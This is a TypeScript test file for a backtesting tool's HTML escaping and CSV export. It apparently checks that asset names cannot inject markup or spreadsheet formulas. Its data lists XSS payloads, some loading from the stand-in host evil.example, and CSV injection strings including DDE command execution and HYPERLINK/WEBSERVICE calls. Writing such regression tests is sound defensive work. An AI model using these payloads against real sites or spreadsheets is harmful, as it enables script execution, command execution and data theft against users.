import { beforeAll, describe, expect, test } from "vitest";
import type { BacktestResult } from "../harness/backtest-result.ts";
import { createMemoryHistory } from "../harness/create-memory-history.ts";
import { runBacktest } from "../harness/run-backtest.ts";
import { capWeighted } from "../harness/strategies/cap-weighted.ts";
import { createSampleRows } from "../testing/create-sample-rows.ts";
import { html } from "./markup.ts";
import { renderWindowsCsv } from "./render-windows-csv.ts";

const attributes = [
  "onerror",
  "onload",
  "onclick",
  "onfocus",
  "onmouseover",
  "onanimationend",
  "ontoggle",
  "onpointerdown",
];
const markup = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script/src=//evil.example>",
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1)>",
  "<math><mi xlink:href=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<a href=javascript:alert(1)>x</a>",
  "<form action=javascript:alert(1)><button>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example>",
  "<style>@import '//evil.example'</style>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><script>alert(1)</script>'>",
  "<textarea></textarea><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><x/>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  "`><script>alert(1)</script>",
  '" autofocus tabindex=1 x="',
  "' style='position:fixed;inset:0",
  ...attributes.map((name) => `<img src=x ${name}=alert(1)>`),
  ...attributes.map((name) => `" ${name}="alert(1)`),
  ...attributes.map((name) => `' ${name}='alert(1)`),
];

describe("a name stays text in a page:", () => {
  test.each(markup)("%s", (name) => {
    const { markup: page } = html`<p title="${name}" data-x='${name}'>${name}</p>`;
    const begin = '<p title="';
    const inner = page.slice(begin.length, -"</p>".length).split(/" data-x='|'>/);
    expect(inner).toHaveLength(3);
    for (const text of inner) expect(text).not.toMatch(/[<>"']|&(?!(amp|lt|gt|quot|#39);)/);
  });
});

describe("a name is no formula in a spreadsheet:", () => {
  let result: BacktestResult;
  beforeAll(async () => {
    result = await runBacktest({
      history: createMemoryHistory(createSampleRows({ assets: 4, days: 120, seed: 5 }), {
        name: "s",
        simulated: true,
      }),
      strategy: { ...capWeighted(), name: "subject" },
      baselines: [],
      walkDays: 30,
      horizonsDays: [7],
      k: 2,
      bootstrap: { resamples: 200 },
      permutations: 99,
    });
  });

  test.each([
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "=WEBSERVICE(A1)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\r\n=2+2",
    '"=1+1"',
    "=IMPORTXML(CONCAT(1),2)",
  ])("%j", (name) => {
    const csv = renderWindowsCsv({ ...result, subject: { ...result.subject, name } });
    const [, row = ""] = csv.split("\r\n");
    const first = row.startsWith('"') ? row.slice(1) : row;
    expect(first).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv.split("\n").length).toBeGreaterThan(2);
  });
});
